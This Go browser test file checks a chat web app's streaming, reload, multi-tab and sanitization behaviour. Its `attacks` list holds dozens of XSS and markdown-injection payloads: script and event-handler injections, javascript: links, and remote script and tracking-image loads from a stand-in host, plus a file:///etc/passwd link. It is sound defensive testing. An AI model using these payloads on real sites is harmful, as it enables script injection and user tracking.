package web_test

import (
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"

	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/chromedp"

	"git.georgsen.dk/hwlab/internal/llm/llmtest"
	"git.georgsen.dk/hwlab/internal/store"
	"git.georgsen.dk/hwlab/internal/testrecord"
)

// source is the Markdown of the last reply as its page has it: what "Copy reply" gives.
func (b *tab) source() string {
	b.t.Helper()
	return b.copied("[...document.querySelectorAll('article.assistant')].at(-1)?.querySelector('footer .copy')")
}

// A reload at any moment of a reply shows at least what was shown before, and in the end there is all of it.
func TestReloadsLoseNothing(t *testing.T) {
	widths(t, func(t *testing.T, b *tab) {
		s := newServer(t, testrecord.SQLite(t), "", "")
		seed := rand.Uint64()
		t.Logf("seed %d", seed)
		random := rand.New(rand.NewPCG(seed, 1))
		text := strings.Repeat(rich+"\n", 6)
		// The reply comes in pieces of any length, each as soon as the page has shown the last.
		var steps []llmtest.Step
		var gates []*llmtest.Gate
		for at := 0; at < len(text); {
			n := min(1+random.IntN(160), len(text)-at)
			gate := llmtest.NewGate()
			gates = append(gates, gate)
			steps = append(steps, llmtest.Step{Gate: gate, Text: text[at : at+n]})
			at += n
		}
		last := llmtest.NewGate()
		s.model.Script(append(steps, llmtest.Step{Gate: last, Finish: "stop"})...)
		b.open(s.url("/"))
		b.send("Tell me")
		b.wait("location.pathname.startsWith('/c/conv_')")
		reloads := map[int]bool{}
		for len(reloads) < 20 {
			reloads[random.IntN(len(gates))] = true
		}
		// The same button, while it is written: it is there, only not shown.
		const source = "document.querySelector('article.assistant footer .copy')"
		shown := ""
		for i, gate := range gates {
			gate.Open()
			if !reloads[i] {
				continue
			}
			// Any moment: pieces may be on their way.
			b.wait(source)
			if now := b.copied(source); !strings.HasPrefix(now, shown) || !strings.HasPrefix(text, now) {
				t.Fatalf("at %d of %d, after %q the page shows %q", i, len(gates), shown, now)
			} else {
				shown = now
			}
			b.do(chromedp.Reload())
			b.wait(source)
			// It has caught up when it shows what was shown; were something lost, it would never.
			b.catchCopies()
			b.wait(fmt.Sprintf("(%s.click(), window.copied?.length >= %d)", source, len(shown)))
			if now := b.text("window.copied"); !strings.HasPrefix(now, shown) {
				t.Fatalf("at %d of %d, after a reload the page shows %q, not %q", i, len(gates), now, shown)
			}
		}
		last.Open()
		b.settled(2)
		if got := b.source(); got != text {
			t.Errorf("in the end the page shows %q", got)
		}
	})
}

// What one browser sends, another shows, live, word by word, and the other way round.
func TestTwoBrowsersOnOneConversation(t *testing.T) {
	s := newServer(t, testrecord.SQLite(t), "", "")
	open := browser(t)
	tabs := []*tab{open(), open()}
	tabs[1].do(chromedp.EmulateViewport(390, 844, chromedp.EmulateMobile))
	s.model.Script(llmtest.Say("Hello.")...)
	tabs[0].open(s.url("/"))
	tabs[0].send("Hi")
	tabs[0].settled(2)
	tabs[1].open(s.url(tabs[0].text("location.pathname")))
	tabs[1].settled(2)
	for turn := range 4 {
		from, to := tabs[turn%2], tabs[1-turn%2]
		gate := llmtest.NewGate()
		s.model.Script(llmtest.Step{Text: fmt.Sprintf("Answer %d, ", turn)}, llmtest.Step{Gate: gate, Text: "whole."})
		from.send(fmt.Sprintf("Question %d", turn))
		for _, b := range []*tab{from, to} {
			b.waitText(fmt.Sprintf("Question %d", turn))
			b.waitText(fmt.Sprintf("Answer %d,", turn))
			b.wait("document.querySelector('.writing') && !document.querySelector('#stop').hidden")
		}
		gate.Open()
		for _, b := range []*tab{from, to} {
			b.settled(4 + 2*turn)
			b.says(3+2*turn, fmt.Sprintf("Answer %d, whole.", turn))
		}
	}
	if one, two := tabs[0].articles(), tabs[1].articles(); one != two {
		t.Errorf("one shows\n%s\nthe other\n%s", one, two)
	}
}

// A stream that breaks is taken up again; only when that fails too the page says so, and stops saying it.
func TestALostConnectionIsTakenUpAgain(t *testing.T) {
	widths(t, func(t *testing.T, b *tab) {
		s := newServer(t, testrecord.SQLite(t), "", "")
		gates := []*llmtest.Gate{llmtest.NewGate(), llmtest.NewGate(), llmtest.NewGate()}
		s.model.Script(llmtest.Step{Text: "One, "}, llmtest.Step{Gate: gates[0], Text: "two, "}, llmtest.Step{Gate: gates[1], Text: "three, "}, llmtest.Step{Gate: gates[2], Text: "four."})
		b.open(s.url("/"))
		b.wait("document.querySelector('#model')?.options.length")
		// cut breaks the streams that are open; while window.broken is set, no request comes through.
		b.text(`(() => {
			const real = window.fetch;
			const streams = new Set();
			window.cut = () => streams.forEach((c) => c.error(new TypeError('network error')));
			window.streams = 0;
			window.fetch = async (path, options) => {
				if (window.broken) throw new TypeError('Failed to fetch');
				const answer = await real(path, options);
				if (options?.headers?.Accept !== 'text/event-stream') return answer;
				window.streams++;
				let control;
				const out = new ReadableStream({ start(c) { streams.add(control = c); } });
				answer.body.pipeTo(new WritableStream({ write: (chunk) => control.enqueue(chunk), close: () => control.close() })).catch(() => {});
				return new Response(out, { status: answer.status, headers: answer.headers });
			};
			window.notices = [];
		})()`)
		b.send("Count")
		b.waitText("One,")
		b.text("(new MutationObserver(() => window.notices.push(document.querySelector('.notice').innerText)).observe(document.querySelector('.notice'), { childList: true, attributes: true }), window.cut())")
		b.wait("window.streams === 2")
		gates[0].Open()
		b.waitText("two,")
		if got := b.text("window.notices.filter(Boolean).join()"); got != "" {
			t.Errorf("a break that is mended at once is told of: %s", got)
		}
		b.text("(window.broken = true, window.cut())")
		b.wait("document.querySelector('.notice').innerText.includes('Connection lost. The reply goes on at the server')")
		b.do(chromedp.SendKeys(messageBox, "what I write meanwhile"))
		gates[1].Open()
		b.text("window.broken = false")
		b.waitText("three,")
		b.wait("document.querySelector('.notice').hidden")
		gates[2].Open()
		b.settled(2)
		b.says(1, "One, two, three, four.")
		if got := b.text("document.querySelector('#message').value"); got != "what I write meanwhile" {
			t.Errorf("in the message box is %q", got)
		}
	})
}

// attacks are what a hostile model might write.
var attacks = []string{
	`<script>window.hit=1</script>`, `<SCRIPT SRC=//198.51.100.1/x.js></SCRIPT>`, `<script>/*</script><svg/onload=window.hit=1>`,
	`<img src=x onerror=window.hit=1>`, `<img src="http://198.51.100.1/a.png">`, `<img srcset="http://198.51.100.1/a.png 1x">`,
	`<svg onload="window.hit=1"><circle/></svg>`, `<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>`, `<svg><a xlink:href="javascript:window.hit=1"><text>x</text></a></svg>`,
	`<svg><style><img src=x onerror=window.hit=1></style></svg>`, `<svg><use href="data:image/svg+xml,<svg id='x' onload='window.hit=1'/>#x"/></svg>`,
	`<svg><foreignObject><iframe srcdoc="<script>parent.hit=1</script>"></iframe></foreignObject></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit=1&gt;">`,
	`<math href="javascript:window.hit=1">x</math>`, `<noscript><p title="</noscript><img src=x onerror=window.hit=1>">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.hit=1>`, `<form action="javascript:window.hit=1"><form action="http://198.51.100.1/"><button>x</button></form></form>`,
	`<form id=x></form><button form=x formaction=javascript:window.hit=1>X</button>`, `<input autofocus onfocus=window.hit=1>`, `<select autofocus onfocus=window.hit=1>`,
	`<details open ontoggle=window.hit=1>`, `<video><source onerror="window.hit=1"></video>`, `<audio src=x onerror=window.hit=1>`, `<video poster=http://198.51.100.1/p.png></video>`,
	`<iframe src="http://198.51.100.1/"></iframe>`, `<iframe srcdoc="<script>parent.hit=1</script>"></iframe>`, `<object data="data:text/html,<script>parent.hit=1</script>"></object>`,
	`<embed src="http://198.51.100.1/x.swf">`, `<link rel=stylesheet href=http://198.51.100.1/x.css>`, `<style>@import url(http://198.51.100.1/x.css); body { display: none }</style>`,
	`<div style="background:url(http://198.51.100.1/b.png);position:fixed;inset:0">covered</div>`, `<base href="http://198.51.100.1/">`, `<meta http-equiv=refresh content="0;url=http://198.51.100.1/">`,
	`<marquee onstart=window.hit=1>x</marquee>`, `<body onload=window.hit=1>`, `<table background="http://198.51.100.1/t.png"><tr><td>x</td></tr></table>`,
	`<a href="javascript:window.hit=1" autofocus>x</a>`, `<template><script>window.hit=1</script></template>`, `<x onpointerover=window.hit=1 onanimationstart=window.hit=1>x</x>`,
	`<!--><img src=x onerror=window.hit=1>-->`, `<![CDATA[<img src=x onerror=window.hit=1>]]>`, `<?xml-stylesheet href="javascript:window.hit=1"?>`,
	`[link](javascript:window.hit=1)`, `[link](JaVaScRiPt:window.hit=1)`, "[link](java\tscript:window.hit=1)", `[link](&#106;avascript:window.hit=1)`, `[link](javascript&colon;window.hit=1)`,
	`[link](data:text/html,<script>opener.hit=1</script>)`, `[link](vbscript:msgbox)`, `[link](file:///etc/passwd)`, `[link](` + "\x01" + `javascript:window.hit=1)`, `<javascript:window.hit=1>`,
	`![picture](http://198.51.100.1/track.png)`, `![picture](//198.51.100.1/track.png "x")`, `![x](x"onerror="window.hit=1)`, `[x](http://a.test/"onmouseover="window.hit=1)`,
	"[ref]\n\n[ref]: javascript:window.hit=1", "![ref2]\n\n[ref2]: http://198.51.100.1/r.png", "```html\n<script>window.hit=1</script><img src=http://198.51.100.1/c.png>\n```",
	"```\"><img src=x onerror=window.hit=1>\nx\n```", "`<img src=x onerror=window.hit=1>`", "| <img src=x onerror=window.hit=1> | b |\n|---|---|\n| <svg onload=window.hit=1> | [x](javascript:window.hit=1) |",
	"- <iframe src=http://198.51.100.1/>\n- <script>window.hit=1</script>", "> <img src=x onerror=window.hit=1>", "# <svg onload=window.hit=1>", "$<img src=x onerror=window.hit=1>_1$", "&lt;img src=x onerror=window.hit=1&gt;",
	"ssh root@<host>", "<p id=thread><p id=message><p name=fetch><img name=getElementById>", "\u202e<script>window.hit=1</script>", "<<script>window.hit=1//<</script>",
}

// Whatever a model writes, in a reply, in its reasoning or as a title, no script of it runs, none of its elements are made
// and the browser asks no other host for anything; while it is written, afterwards, when it is searched for and pointed at.
func TestNothingThatAModelWritesActs(t *testing.T) {
	widths(t, func(t *testing.T, b *tab) {
		s := newServer(t, testrecord.SQLite(t), "", "")
		elsewhere := make(chan string, 100)
		if _, err := chromedp.Call(b.ctx, network.Enable, network.EnableParams{}); err != nil {
			t.Fatal(err)
		}
		if err := chromedp.Listen(b.ctx, func(event any) {
			if e, ok := event.(*network.EventRequestWillBeSent); ok && !strings.HasPrefix(e.Request.URL, s.url("/")) {
				select {
				case elsewhere <- e.Request.URL:
				default:
				}
			}
		}); err != nil {
			t.Fatal(err)
		}
		all := strings.Join(attacks, "\n\n")
		var steps []llmtest.Step
		for _, piece := range pieces(all, 23) {
			steps = append(steps, llmtest.Step{Reasoning: piece})
		}
		for _, piece := range pieces(all, 17) {
			steps = append(steps, llmtest.Step{Text: piece})
		}
		s.model.Script(append(steps, llmtest.Step{Finish: "stop"})...)
		b.open(s.url("/"))
		b.send(attacks[3])
		b.settled(2)
		id := strings.TrimPrefix(b.text("location.pathname"), "/c/conv_")
		title := attacks[6] + attacks[3]
		if _, err := s.record.UpdateConversation(t.Context(), id, store.ConversationChange{Title: &title}); err != nil {
			t.Fatal(err)
		}
		check := func(when string) {
			t.Helper()
			b.wait("document.querySelector('#title').innerText.includes('onload') && document.querySelector('nav').textContent.includes('onload')")
			b.wait("document.querySelector('.hljs-tag')")
			b.text(`document.querySelectorAll('article *').forEach((el) => ['pointerover', 'mouseover', 'focus', 'animationstart', 'toggle'].forEach((type) => el.dispatchEvent(new Event(type))))`)
			b.still("document.querySelectorAll('*').length")
			if hit := b.text("window.hit"); hit != "undefined" {
				t.Errorf("%s: a script of the model ran", when)
			}
			// What stands in a reply is made of these, with these attributes.
			got := b.text(`[...document.querySelectorAll('article .body *, .thoughts *, .plain *, #title *, nav a *')].flatMap((el) => [
				...('A BLOCKQUOTE BR BUTTON CODE DEL DIV EM H2 H3 H4 H5 H6 HR INPUT LI OL P PRE SPAN STRONG TABLE TBODY TD TH THEAD TR UL'.split(' ').includes(el.tagName) ? [] : [el.outerHTML]),
				...el.getAttributeNames().filter((name) => !['aria-expanded', 'aria-label', 'class', 'data-closed', 'data-grew', 'data-host', 'data-item', 'dir', 'disabled', 'hidden', 'href', 'id', 'rel', 'role', 'start', 'tabindex', 'target', 'title', 'type'].includes(name)).map((name) => name + ' in ' + el.outerHTML),
				...(el.id && el.closest('article') ? ['an id: ' + el.outerHTML] : []),
				...(el.tagName === 'A' && el.closest('article') && !/^(https?|mailto):/.test(el.protocol) ? ['a link to ' + el.href] : []),
			]).join('\n')`)
			if got != "" {
				t.Errorf("%s: of the model's own making are\n%s", when, got)
			}
			if got := b.text("location.origin + ' ' + (document.querySelector('#scroller').clientHeight > 200) + ' ' + document.baseURI.startsWith(location.origin)"); got != s.url("")+" true true" {
				t.Errorf("%s: the page is %s", when, got)
			}
			for {
				select {
				case url := <-elsewhere:
					if !strings.HasPrefix(url, "data:image/svg+xml") || strings.Contains(url, "hit") {
						t.Errorf("%s: the browser asked for %s", when, url)
					}
					continue
				default:
				}
				break
			}
		}
		check("written")
		if got := b.source(); got != all {
			t.Error("the source is not what was written")
		}
		b.do(chromedp.Reload())
		b.settled(2)
		b.text("document.querySelector('.reasoning').open = true")
		check("loaded")
		for _, want := range []string{attacks[0], attacks[12], attacks[33], "\u202e" + attacks[0], "ssh root@<host>"} {
			b.waitText(want)
		}
	})
}

// The list of some thousand conversations is scrolled to its end, by whole pages, in its order.
func TestAListOfThousands(t *testing.T) {
	widths(t, func(t *testing.T, b *tab) {
		s := newServer(t, testrecord.SQLite(t), "", "")
		const n = 2000
		for i := range n {
			s.conversation(fmt.Sprintf("Number %d", i))
		}
		b.open(s.url("/"))
		b.sidebar()
		b.wait(row(fmt.Sprintf("Number %d", n-1)))
		for rows := 500; rows <= n; rows += 500 {
			b.wait(fmt.Sprintf("(document.querySelector('#list-scroller').scrollTop = 1e9, document.querySelectorAll('nav li').length >= %d)", rows))
		}
		if got := b.text("[...document.querySelectorAll('nav li .name')].every((name, i) => name.innerText === 'Number ' + (" + fmt.Sprint(n-1) + " - i))"); got != "true" {
			t.Error("the rows are not in their order")
		}
		b.click(row("Number 0"))
		b.wait("location.pathname.startsWith('/c/') && document.querySelector('#title').innerText === 'Number 0'")
		b.text("history.back()")
		b.wait("location.pathname === '/'")
	})
}
